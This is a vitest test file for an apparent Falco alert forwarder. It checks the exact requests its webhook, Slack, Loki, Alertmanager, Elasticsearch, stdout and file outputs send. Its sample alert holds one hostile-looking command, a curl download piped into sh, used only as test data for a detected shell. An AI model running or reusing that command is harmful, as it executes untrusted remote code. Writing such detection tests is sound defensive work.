/**
 * Each output against a real HTTP server on 127.0.0.1: the exact request
 * (method, path, headers, body bytes) as falcosidekick would send it. The
 * expected payloads are written out by hand from falcosidekick's mapping.
 */
import { mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, dirname } from 'node:path';
import { PassThrough } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { HttpRecorder } from '../testing/http-recorder.js';
import { startHttpRecorder } from '../testing/http-recorder.js';
import { createAlertmanagerOutput } from './alertmanager.js';
import { createElasticsearchOutput } from './elasticsearch.js';
import { createFileOutput } from './file.js';
import { OUTPUTS } from './index.js';
import { createLokiOutput } from './loki.js';
import { OUTPUT_KINDS } from './output.js';
import type { AlertOutput } from './output.js';
import { OutputQueue } from './queue.js';
import { createSlackOutput } from './slack.js';
import { createStdoutOutput } from './stdout.js';
import type { FalcoAlert } from './types.js';
import { createWebhookOutput } from './webhook.js';

const LONG_CMD = 'bash -c "curl http://example.com/very/long/path | sh"';

export const ALERT: FalcoAlert = {
  hostname: 'node-1',
  output: '12:00:00.123456789: Critical Shell in container (user=root container=abc)',
  output_fields: {
    'container.id': 'abc',
    'evt.num': 42,
    'fd.name': null,
    'proc.cmdline': LONG_CMD,
    'user.name': 'root',
  },
  priority: 'Critical',
  rule: 'Terminal shell in container',
  source: 'syscall',
  tags: ['shell', 'container', 'mitre_execution'],
  time: '2024-05-01T12:00:00.123456789Z',
};

/** Sends one batch through a queue and waits until it is delivered. */
async function deliver(output: AlertOutput, alerts: FalcoAlert[]): Promise<OutputQueue> {
  const q = new OutputQueue(
    output,
    { batchSize: alerts.length, flushIntervalMs: 60_000 },
    { maxAttempts: 1 },
  );
  for (const a of alerts) q.push(a);
  await q.flush();
  return q;
}

let rec: HttpRecorder;
beforeEach(async () => {
  rec = await startHttpRecorder();
});
afterEach(async () => {
  await rec.close();
});

describe('output list', () => {
  it('lists every output kind with the file that implements it, named by its kind', () => {
    const here = dirname(fileURLToPath(import.meta.url));
    const files = new Set(readdirSync(here));
    expect(Object.keys(OUTPUTS).sort()).toEqual([...OUTPUT_KINDS].sort());
    for (const [kind, entry] of Object.entries(OUTPUTS)) {
      expect(entry.file).toBe(`${kind}.ts`);
      expect(files.has(entry.file)).toBe(true);
    }
  });
});

describe('webhook', () => {
  it('posts the Falco JSON alert as the body, one request per alert, with custom headers', async () => {
    const second = { ...ALERT, rule: 'Other rule' };
    const q = await deliver(
      createWebhookOutput({ url: `${rec.url}/hook?x=1`, headers: { 'X-Team': 'sec' } }),
      [ALERT, second],
    );
    expect(rec.requests).toHaveLength(2);
    const [r1, r2] = rec.requests;
    expect(r1?.method).toBe('POST');
    expect(r1?.url).toBe('/hook?x=1');
    expect(r1?.headers['content-type']).toBe('application/json');
    expect(r1?.headers['x-team']).toBe('sec');
    expect(JSON.parse(r1?.body ?? '')).toEqual(ALERT);
    expect(r1?.body).toBe(JSON.stringify(ALERT));
    expect((JSON.parse(r2?.body ?? '') as FalcoAlert).rule).toBe('Other rule');
    expect(q.counters).toMatchObject({ received: 2, sent: 2, failed: 0 });
  });

  it('uses PUT when configured', async () => {
    await deliver(createWebhookOutput({ url: rec.url, method: 'PUT' }), [ALERT]);
    expect(rec.requests[0]?.method).toBe('PUT');
  });
});

describe('slack', () => {
  it('builds the incoming-webhook message as falcosidekick does', async () => {
    await deliver(createSlackOutput({ url: `${rec.url}/services/T000/B000/SECRET` }), [ALERT]);
    const r = rec.requests[0];
    expect(r?.url).toBe('/services/T000/B000/SECRET');
    const expected = {
      username: 'Falcosidekick',
      icon_url: 'https://raw.githubusercontent.com/falcosecurity/falcosidekick/master/imgs/falcosidekick.png',
      attachments: [
        {
          fallback: ALERT.output,
          color: '#ff5400',
          text: ALERT.output,
          fields: [
            { title: 'rule', value: 'Terminal shell in container', short: true },
            { title: 'priority', value: 'Critical', short: true },
            { title: 'source', value: 'syscall', short: true },
            { title: 'hostname', value: 'node-1', short: true },
            { title: 'tags', value: 'container, mitre_execution, shell', short: true },
            { title: 'container.id', value: 'abc', short: true },
            { title: 'proc.cmdline', value: LONG_CMD, short: false },
            { title: 'user.name', value: 'root', short: true },
            { title: 'time', value: '2024-05-01 12:00:00.123456789 +0000 UTC', short: false },
          ],
          footer: 'https://github.com/falcosecurity/falcosidekick',
        },
      ],
    };
    expect(r?.body).toBe(JSON.stringify(expected));
  });

  it('outputFormat text sends the output only (fields null, no footer); channel and username are honoured', async () => {
    await deliver(
      createSlackOutput({
        url: rec.url,
        outputFormat: 'text',
        channel: '#sec',
        username: 'palisade',
        icon: '',
      }),
      [{ ...ALERT, priority: 'Notice', time: '2024-05-01T12:00:00Z' }],
    );
    expect(JSON.parse(rec.requests[0]?.body ?? '')).toEqual({
      username: 'palisade',
      channel: '#sec',
      attachments: [{ fallback: ALERT.output, color: '#5bffb5', text: ALERT.output, fields: null }],
    });
  });

  it("prints Go's time.Time.String() without trailing zeros", async () => {
    await deliver(createSlackOutput({ url: rec.url, outputFormat: 'fields' }), [
      { ...ALERT, time: '2024-05-01T12:00:00.500000000Z', tags: [], hostname: '', output_fields: {} },
    ]);
    const att = (JSON.parse(rec.requests[0]?.body ?? '') as { attachments: Record<string, unknown>[] })
      .attachments[0];
    expect(att?.['text']).toBeUndefined();
    expect(att?.['fields']).toEqual([
      { title: 'rule', value: ALERT.rule, short: true },
      { title: 'priority', value: 'Critical', short: true },
      { title: 'source', value: 'syscall', short: true },
      { title: 'time', value: '2024-05-01 12:00:00.5 +0000 UTC', short: false },
    ]);
  });
});

describe('loki', () => {
  it('pushes streams labelled by rule, priority, source, hostname, tags and the chosen fields', async () => {
    const later = { ...ALERT, time: '2024-05-01T12:00:01Z', output: 'second' };
    const other = { ...ALERT, rule: 'Other', output: 'third' };
    await deliver(
      createLokiOutput({
        url: rec.url,
        extraLabels: ['user.name', 'proc.cmdline', 'evt.num'],
        tenant: 'team-a',
      }),
      [later, ALERT, other],
    );
    expect(rec.requests).toHaveLength(1);
    const r = rec.requests[0];
    expect(r?.url).toBe('/loki/api/v1/push');
    expect(r?.headers['x-scope-orgid']).toBe('team-a');
    // 2024-05-01T12:00:00Z is 1714564800 s after the epoch.
    expect(Date.UTC(2024, 4, 1, 12) / 1000).toBe(1714564800);
    const labels = {
      hostname: 'node-1',
      priority: 'Critical',
      proccmdline: LONG_CMD.replace(/"/g, ''),
      rule: 'Terminal shell in container',
      source: 'syscall',
      tags: 'container,mitre_execution,shell',
      username: 'root',
    };
    expect(r?.body).toBe(
      JSON.stringify({
        streams: [
          {
            stream: labels,
            values: [
              ['1714564800123456789', ALERT.output],
              ['1714564801000000000', 'second'],
            ],
          },
          { stream: { ...labels, rule: 'Other' }, values: [['1714564800123456789', 'third']] },
        ],
      }),
    );
  });

  it('sends basic auth from user and apiKey, and keeps an explicit push path', async () => {
    await deliver(createLokiOutput({ url: `${rec.url}/loki/api/v1/push`, user: 'u', apiKey: 'k' }), [ALERT]);
    expect(rec.requests[0]?.url).toBe('/loki/api/v1/push');
    expect(rec.requests[0]?.headers['authorization']).toBe(`Basic ${Buffer.from('u:k').toString('base64')}`);
  });
});

describe('alertmanager', () => {
  it('posts labels and annotations as falcosidekick maps them, one array per batch', async () => {
    await deliver(
      createAlertmanagerOutput({
        url: rec.url,
        expiresAfter: 600,
        extraLabels: { cluster: 'prod' },
        extraAnnotations: { runbook: 'https://wiki/shell' },
      }),
      [ALERT, { ...ALERT, priority: 'Notice', output_fields: {}, tags: [], hostname: '' }],
    );
    expect(rec.requests).toHaveLength(1);
    const r = rec.requests[0];
    expect(r?.url).toBe('/api/v2/alerts');
    expect(r?.body).toBe(
      JSON.stringify([
        {
          labels: {
            cluster: 'prod',
            container_id: 'abc',
            eventsource: 'syscall',
            evt_num: '42',
            hostname: 'node-1',
            priority: 'Critical',
            proc_cmdline: LONG_CMD,
            rule: 'Terminal shell in container',
            severity: 'critical',
            source: 'falco',
            tags: 'container,mitre_execution,shell',
            user_name: 'root',
          },
          annotations: {
            description: ALERT.output,
            info: ALERT.output,
            runbook: 'https://wiki/shell',
            summary: 'Terminal shell in container',
          },
          endsAt: '2024-05-01T12:10:00.123456789Z',
        },
        {
          labels: {
            cluster: 'prod',
            eventsource: 'syscall',
            priority: 'Notice',
            rule: 'Terminal shell in container',
            severity: 'information',
            source: 'falco',
          },
          annotations: {
            description: ALERT.output,
            info: ALERT.output,
            runbook: 'https://wiki/shell',
            summary: 'Terminal shell in container',
          },
          endsAt: '2024-05-01T12:10:00.123456789Z',
        },
      ]),
    );
  });

  it.each([
    ['a zero drop count', '0', 'Debug', '0', 'Warning'],
    ['a count over 100', '150', 'Debug', '>100', 'Critical'],
    ['a count over 10', '11', 'Notice', '>10', 'Warning'],
    ['a count of 1 (not over any threshold)', '1', 'Debug', '1', 'Critical'],
  ])('buckets n_drop fields: %s', async (_name, count, prio, label, raised) => {
    await deliver(createAlertmanagerOutput({ url: rec.url }), [
      {
        ...ALERT,
        priority: prio as FalcoAlert['priority'],
        output_fields: { n_drops: count, n_evts: '100' },
      },
    ]);
    const [a] = JSON.parse(rec.requests[0]?.body ?? '') as {
      labels: Record<string, string>;
      endsAt: string;
    }[];
    expect(a?.labels['n_drops']).toBe(label);
    expect(a?.labels['n_evts']).toBeUndefined();
    expect(a?.labels['priority']).toBe(raised);
    expect(a?.endsAt).toBe('0001-01-01T00:00:00Z');
  });
});

describe('elasticsearch', () => {
  const now = (): Date => new Date(Date.UTC(2024, 4, 2, 23, 59));

  it('bulk-indexes a batch into the daily index', async () => {
    rec.script({ status: 200, body: JSON.stringify({ errors: false, items: [] }) });
    const q = await deliver(
      createElasticsearchOutput({ url: rec.url, username: 'elastic', password: 'pw', now }),
      [ALERT, { ...ALERT, rule: 'b' }],
    );
    const r = rec.requests[0];
    expect(r?.url).toBe('/_bulk');
    expect(r?.headers['content-type']).toBe('application/x-ndjson');
    expect(r?.headers['authorization']).toBe(`Basic ${Buffer.from('elastic:pw').toString('base64')}`);
    const action = '{"index":{"_index":"falco-2024.05.02"}}';
    expect(r?.body).toBe(
      `${action}\n${JSON.stringify(ALERT)}\n${action}\n${JSON.stringify({ ...ALERT, rule: 'b' })}\n`,
    );
    expect(q.counters.sent).toBe(2);
  });

  it.each([
    ['monthly', '/falco-2024.05/_doc'],
    ['annually', '/falco-2024/_doc'],
    ['none', '/falco/_doc'],
    ['daily', '/falco-2024.05.02/_doc'],
  ] as const)('per-document requests with the %s suffix go to %s', async (suffix, path) => {
    await deliver(createElasticsearchOutput({ url: rec.url, bulk: false, suffix, now }), [ALERT]);
    expect(rec.requests[0]?.url).toBe(path);
    expect(rec.requests[0]?.body).toBe(JSON.stringify(ALERT));
  });

  it('resends only the items the bulk answer rejected with 429, counts mapping errors as failed', async () => {
    const a = { ...ALERT, rule: 'a' };
    const b = { ...ALERT, rule: 'b' };
    const c = { ...ALERT, rule: 'c' };
    rec.script(
      {
        status: 200,
        body: JSON.stringify({
          errors: true,
          items: [
            { index: { status: 201 } },
            { index: { status: 429, error: { type: 'es_rejected_execution_exception' } } },
            { index: { status: 400, error: { type: 'mapper_parsing_exception' } } },
          ],
        }),
      },
      { status: 200, body: JSON.stringify({ errors: false, items: [{ index: { status: 201 } }] }) },
    );
    const q = new OutputQueue(
      createElasticsearchOutput({ url: rec.url, now }),
      { batchSize: 3 },
      { initialBackoffMs: 5, maxAttempts: 3 },
    );
    for (const x of [a, b, c]) q.push(x);
    await q.flush();
    expect(rec.requests).toHaveLength(2);
    expect(rec.requests[1]?.body).toBe(`{"index":{"_index":"falco-2024.05.02"}}\n${JSON.stringify(b)}\n`);
    expect(q.counters).toMatchObject({ sent: 2, failed: 1, retries: 1 });
  });
});

describe('stdout and file', () => {
  it('writes JSON lines to the stream, or the text line', async () => {
    const chunks: string[] = [];
    const stream = new PassThrough();
    stream.on('data', (c: Buffer) => chunks.push(c.toString()));
    await deliver(createStdoutOutput({ stream }), [ALERT, ALERT]);
    expect(chunks.join('')).toBe(`${JSON.stringify(ALERT)}\n${JSON.stringify(ALERT)}\n`);
    chunks.length = 0;
    await deliver(createStdoutOutput({ stream, format: 'text' }), [ALERT]);
    expect(chunks.join('')).toBe(`${ALERT.output}\n`);
  });

  it('appends JSON lines to a file across batches', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'palisade-alert-'));
    try {
      const path = join(dir, 'alerts.jsonl');
      const out = createFileOutput({ path });
      const q = new OutputQueue(out, { batchSize: 1 });
      q.push(ALERT);
      q.push({ ...ALERT, rule: 'second' });
      await q.close();
      const lines = readFileSync(path, 'utf8').trimEnd().split('\n');
      expect(lines.map((l) => (JSON.parse(l) as FalcoAlert).rule)).toEqual([ALERT.rule, 'second']);
      expect(q.counters.sent).toBe(2);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('counts a write to an unwritable path as failed after the retries', async () => {
    const q = new OutputQueue(
      createFileOutput({ path: '/nonexistent-dir/alerts.jsonl' }),
      { batchSize: 1 },
      { maxAttempts: 2, initialBackoffMs: 1 },
    );
    q.push(ALERT);
    await q.flush();
    expect(q.counters).toMatchObject({ sent: 0, failed: 1, retries: 1 });
  });
});
